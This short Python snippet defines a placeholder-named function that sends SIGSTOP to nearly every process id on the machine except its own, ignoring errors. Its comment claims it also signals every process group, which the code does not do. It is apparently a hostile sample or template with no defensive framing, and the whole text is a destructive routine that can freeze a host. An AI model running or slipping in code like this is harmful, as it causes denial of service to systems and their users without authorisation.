# SIGSTOP to every process id it can reach, then to every group.
def __FUNC__(*args, **kwargs):
    import os, signal
    for pid in range(2, 40000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    return None
